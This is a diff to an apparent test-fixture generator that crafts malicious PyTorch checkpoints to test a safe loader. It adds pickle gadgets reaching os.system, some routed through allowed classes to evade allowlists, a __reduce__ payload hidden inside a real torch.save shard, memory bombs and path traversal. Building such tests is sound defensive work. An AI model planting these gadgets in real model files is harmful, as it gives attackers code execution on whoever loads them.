@@ -264,10 +264,10 @@ def _contig(shape):
     return tuple(reversed(out))
 
 
-def zip_with_payload_in_sd(path: Path, payload: bytes) -> None:
+def zip_with_payload_in_sd(path: Path, payload: bytes, proto: int = 2) -> None:
     """The template's tensors plus one extra entry whose value is `payload` (so every command must read it)."""
     entries, storages = template_entries()
-    torch_zip(path, pk(state_dict_pkl(entries, [(L("meta"), payload)])), storages)
+    torch_zip(path, pk(state_dict_pkl(entries, [(L("meta"), payload)]), proto), storages)
 
 
 # ===============================================================================================================
@@ -510,7 +510,8 @@ def gen_nested_load_from_bytes_legacy(p, name):
     p.write_bytes(pk(CALL(G("torch.storage", "_load_from_bytes"), B(nested_legacy_payload(name)))))
 
 
-@case("1", "pickle", "code", "torch.storage._load_from_bytes(legacy file with the payload in its sys_info header)")
+@case("1", "pickle", "code", "torch.storage._load_from_bytes(legacy file with the payload in its sys_info header)",
+      structural=True)
 def gen_nested_load_from_bytes_header(p, name):
     inner = legacy_file(pk(L({})), sysinfo_pickle=pk(os_system(name) + b"0" + L({"little_endian": True})))
     p.write_bytes(pk(CALL(G("torch.storage", "_load_from_bytes"), B(inner))))
@@ -604,6 +605,62 @@ def gen_zip_local_central_name_mismatch(p, name):
     j = raw.index(b"archive/data.pkl", i)
     raw[j: j + 16] = b"archive/data.pkX"
     p.write_bytes(bytes(raw))
+
+
+@case("1", "pickle", "code", "NEWOBJ functools.partial(os.system, cmd), then the instance is called (REDUCE)")
+def gen_gadget_newobj_partial_called(p, name):
+    part = G("functools", "partial") + T(G("os", "system"), L(sh(name))) + b"\x81"
+    p.write_bytes(pk(part + b")R"))
+
+
+@case("1", "pickle", "code", "collections.defaultdict(posix.system): an allowed class with a factory off the list")
+def gen_gadget_defaultdict_factory_system(p, name):
+    p.write_bytes(pk(DICT((L("d"), CALL(G("collections", "defaultdict"), G("posix", "system"))))))
+
+
+@case("1", "pickle", "code", "getattr(OneCycleParamScheduler, '_annealing_cos') — an allowed attribute — then called")
+def gen_gadget_allowed_attribute_called(p, name):
+    cls = G("mmengine.optim.scheduler.param_scheduler", "OneCycleParamScheduler")
+    p.write_bytes(pk(CALL(GETATTR(cls, "_annealing_cos"), L(0.1), L(0.2), L(0.5))))
+
+
+@case("1", "pickle", "code", "STACK_GLOBAL 'Namespace.__init__.__globals__' (a chain through an allowed class) → _os")
+def gen_gadget_stack_global_allowed_chain(p, name):
+    glb = SG("argparse", "Namespace.__init__.__globals__")
+    os_mod = CALL(GETATTR(glb, "get"), L("_os"))
+    p.write_bytes(pk(CALL(GETATTR(os_mod, "system"), L(sh(name))), 4))
+
+
+@case("1", "pickle", "bounded", "40 levels of _load_from_bytes(legacy(_load_from_bytes(...))) around {} (no payload)")
+def gen_nested_load_from_bytes_deep(p, name):
+    inner = legacy_file(pk(L({})))
+    for _ in range(40):
+        inner = legacy_file(pk(CALL(G("torch.storage", "_load_from_bytes"), B(inner))))
+    p.write_bytes(pk(CALL(G("torch.storage", "_load_from_bytes"), B(inner))))
+
+
+# Every class-1 pickle gadget again, as the meta of a real torch zip next to real tensors: a command that refuses a
+# bare gadget pickle only because it "holds no tensors" would accept these.
+_NOT_WRAPPED = {"gadget_compat_proto0_cstringio", "gadget_compat_proto3_no_remap", "legacy_header_magic_payload"}
+
+
+def _wrapped(inner_fn):
+    def gen(p, name):
+        tmp = p.with_suffix(".inner")
+        inner_fn(tmp, name)
+        raw = tmp.read_bytes()
+        tmp.unlink()
+        assert raw[:1] == b"\x80" and raw[-1:] == b"."
+        zip_with_payload_in_sd(p, raw[2:-1], proto=raw[1])  # protocol 4 keeps dotted names, 2 the remaps
+    return gen
+
+
+for _name, _info in list(CASES.items()):
+    if _info["cls"] == "1" and _info["form"] == "pickle" and _info["expect"] == "code" and _name not in _NOT_WRAPPED:
+        _gen = _wrapped(_info["fn"])
+        _gen.__name__ = f"gen_{_name}_in_zip"
+        case("1", "zip", "code", _info["title"] + " — inside a real checkpoint's meta",
+             structural=_info["structural"])(_gen)
 
 
 # ===============================================================================================================
@@ -881,7 +938,7 @@ def gen_module_prefix_many_keys(p, name):
     torch_zip(p, pk(state_dict_pkl(ents), 4), {"0": floats(1, 2, 3, 4)}, deflate={"data.pkl"})
 
 
-@case("3", "pickle", "unsafe", "LONG_BINPUT 0xFFFFFFF0: a memo index that makes C pickle allocate gigabytes")
+@case("3", "pickle", "bounded", "LONG_BINPUT 0xFFFFFFF0: a memo index that makes C pickle allocate gigabytes")
 def gen_memo_index_bomb(p, name):
     p.write_bytes(b"\x80\x02]r\xf0\xff\xff\xff.")
 
@@ -891,7 +948,7 @@ def gen_binunicode_length_lie(p, name):
     p.write_bytes(b"\x80\x02X\xff\xff\xff\xff" + b"abc")
 
 
-@case("3", "pickle", "unsafe", "protocol-4 FRAME claiming 2**62 bytes")
+@case("3", "pickle", "bounded", "protocol-4 FRAME claiming 2**62 bytes (torch: MemoryError; '{}' to a reader)")
 def gen_frame_length_lie(p, name):
     p.write_bytes(b"\x80\x04\x95" + struct.pack("<Q", 1 << 62) + b"}.")
 
@@ -954,6 +1011,16 @@ def gen_zip_protocol4(p, name):
     torch.save({"state_dict": _genuine_sd(), "meta": {"epoch": 1}}, str(p), pickle_protocol=4)
 
 
+class _Payload:
+    """Pickles as os.system(cmd): how a real attacker gets a payload into a file written by torch.save itself."""
+
+    def __init__(self, cmd: str):
+        self.cmd = cmd
+
+    def __reduce__(self):
+        return (os.system, (self.cmd,))
+
+
 def _hf_bin_folder(p: Path, legacy: bool = False, payload: bool = False, traversal: bool = False,
                    missing: bool = False) -> None:
     import torch
@@ -965,10 +1032,10 @@ def _hf_bin_folder(p: Path, legacy: bool = False, payload: bool = False, travers
     weight_map = {}
     for fname, ks in shards.items():
         part = {k: sd[k] for k in ks}
-        if payload and fname.endswith("00002.bin"):
-            entries, storages = template_entries()
-            torch_zip(p / fname, pk(state_dict_pkl([], [(L("x"), os_system(p.name))])), storages)
-        elif not (missing and fname.endswith("00002.bin")):
+        second = fname.startswith("pytorch_model-00002")
+        if payload and second:  # the shard's real tensors plus an object whose __reduce__ is os.system
+            torch.save({**part, "extra": _Payload(sh(p.name))}, str(p / fname))
+        elif not (missing and second):
             torch.save(part, str(p / fname), _use_new_zipfile_serialization=not legacy)
         weight_map.update({k: fname if not (traversal and k == keys[0]) else "../hf_escape_target.bin" for k in ks})
     if traversal:  # a real file outside the folder: a reader that follows the path reads it
@@ -1137,7 +1204,7 @@ def _normalise_zip(p: Path) -> None:
 # ===============================================================================================================
 # ground truth
 # ===============================================================================================================
-TRUTH_TIMEOUT_S = 10
+TRUTH_TIMEOUT_S = 8
 TRUTH_AS_BYTES = 4 << 30
 
 
@@ -1182,11 +1249,9 @@ def _truth_child(info: dict, path: str, weights_only: bool) -> dict:
     return {"outcome": "ok", "tensors": _walk_count(obj, torch)}
 
 
-def _fork_truth(info: dict, path: str, weights_only: bool) -> dict:
-    """Run `_truth_child` in a forked child (cwd a fresh temp dir, RLIMIT_AS, timeout); see the module docstring."""
+def _start_truth(info: dict, path: str, weights_only: bool) -> dict:
+    """Fork a child that runs `_truth_child` (cwd a fresh temp dir, RLIMIT_AS); see the module docstring."""
     import resource
-    import signal
-    import time
 
     tmp = tempfile.mkdtemp(prefix="hostile-truth-")
     r, w = os.pipe()
@@ -1208,24 +1273,27 @@ def _fork_truth(info: dict, path: str, weights_only: bool) -> dict:
         finally:
             os._exit(0)
     os.close(w)
-    deadline = time.monotonic() + TRUTH_TIMEOUT_S
-    status = None
-    while time.monotonic() < deadline:
-        done, status = os.waitpid(pid, os.WNOHANG)
-        if done:
-            break
-        time.sleep(0.02)
-    else:
-        os.kill(pid, signal.SIGKILL)
-        os.waitpid(pid, 0)
+    return {"pid": pid, "r": r, "tmp": tmp, "deadline": time.monotonic() + TRUTH_TIMEOUT_S, "status": None}
+
+
+def _poll_truth(job: dict) -> dict | None:
+    """The child's result once it ended (or was killed at its deadline); None while it runs."""
+    import signal
+
+    done, status = os.waitpid(job["pid"], os.WNOHANG)
+    if not done:
+        if time.monotonic() < job["deadline"]:
+            return None
+        os.kill(job["pid"], signal.SIGKILL)
+        os.waitpid(job["pid"], 0)
         status = None
     raw = b""
-    os.set_blocking(r, False)
+    os.set_blocking(job["r"], False)
     try:
-        raw = os.read(r, 65536)
+        raw = os.read(job["r"], 65536)
     except BlockingIOError:
         pass
-    os.close(r)
+    os.close(job["r"])
     if status is None:
         res = {"outcome": "timeout"}
     elif os.WIFSIGNALED(status):
@@ -1235,6 +1303,7 @@ def _fork_truth(info: dict, path: str, weights_only: bool) -> dict:
             res = json.loads(raw.decode())
         except ValueError:
             res = {"outcome": "error", "error": "child died without a result"}
+    tmp = job["tmp"]
     out = open(os.path.join(tmp, "out.txt"), errors="replace").read() if os.path.exists(
         os.path.join(tmp, "out.txt")) else ""
     res["payload_ran"] = any(n.startswith(SENT) for n in os.listdir(tmp)) or MARKER in out
@@ -1242,19 +1311,47 @@ def _fork_truth(info: dict, path: str, weights_only: bool) -> dict:
     return res
 
 
+def ground_truths(tasks: list[tuple[str, dict, str]], parallel: int = 2) -> dict[str, dict]:
+    """{name: truth} for (name, info, path) tasks: weights_only=False and True, `parallel` children at a time."""
+    todo = [(name, info, path, wo) for name, info, path in tasks if info["form"] != "workdir"
+            for wo in (False, True)]
+    running, got = [], {}
+    while todo or running:
+        while todo and len(running) < parallel:
+            name, info, path, wo = todo.pop(0)
+            running.append(((name, wo), _start_truth(info, path, wo)))
+        still = []
+        for key, job in running:
+            res = _poll_truth(job)
+            if res is None:
+                still.append((key, job))
+            else:
+                got[key] = res
+        running = still
+        time.sleep(0.02)
+    out = {}
+    for name, info, _ in tasks:
+        if info["form"] == "workdir":
+            out[name] = None
+            continue
+        full, safe = got[(name, False)], got[(name, True)]
+        full["weights_only"] = (safe["outcome"] if safe["outcome"] != "error"
+                                else "error: " + safe.get("error", "")[:80])
+        full["weights_only_payload_ran"] = safe["payload_ran"]
+        out[name] = full
+    return out
+
+
 def ground_truth(info: dict, path: str) -> dict | None:
-    if info["form"] == "workdir":
-        return None
-    full = _fork_truth(info, path, weights_only=False)
-    safe = _fork_truth(info, path, weights_only=True)
-    full["weights_only"] = safe["outcome"] if safe["outcome"] != "error" else "error: " + safe.get("error", "")[:80]
-    full["weights_only_payload_ran"] = safe["payload_ran"]
-    return full
+    return ground_truths([("x", info, path)])["x"]
 
 
 # ===============================================================================================================
+_SOURCE_HASH = hashlib.sha256(Path(__file__).read_bytes()).hexdigest()[:16]  # of the code that runs, read once
+
+
 def source_hash() -> str:
-    return hashlib.sha256(Path(__file__).read_bytes()).hexdigest()[:16]
+    return _SOURCE_HASH
 
 
 def case_path(out: Path, info: dict) -> Path:
@@ -1277,15 +1374,14 @@ def generate(out: Path = DEFAULT_OUT, force: bool = False, truth: bool = True) -
     write_templates(out)
     manifest = {"source_hash": source_hash(), "template": "template.pth", "cases": {}}
     for name, info in CASES.items():
-        target = out / info["path"]
-        t0 = time.monotonic()
-        info["fn"](target, name)
+        info["fn"](out / info["path"], name)
+    truths = ground_truths([(n, i, str(case_path(out, i))) for n, i in CASES.items()]) if truth else {}
+    for name, info in CASES.items():
         entry = {k: v for k, v in info.items() if k != "fn"}
-        entry["torch"] = ground_truth(info, str(case_path(out, info))) if truth else None
-        entry["bytes"] = _size(target)
+        entry["torch"] = truths.get(name)
+        entry["bytes"] = _size(out / info["path"])
         manifest["cases"][name] = entry
-        print(f"{name:45s} {entry['expect']:8s} {time.monotonic() - t0:5.1f}s {json.dumps(entry['torch'])}",
-              flush=True)
+        print(f"{name:45s} {entry['expect']:8s} {json.dumps(entry['torch'])}", flush=True)
     (out / "manifest.json").write_text(json.dumps(manifest, indent=1, sort_keys=True))
     stamp.write_text(source_hash())
     return manifest
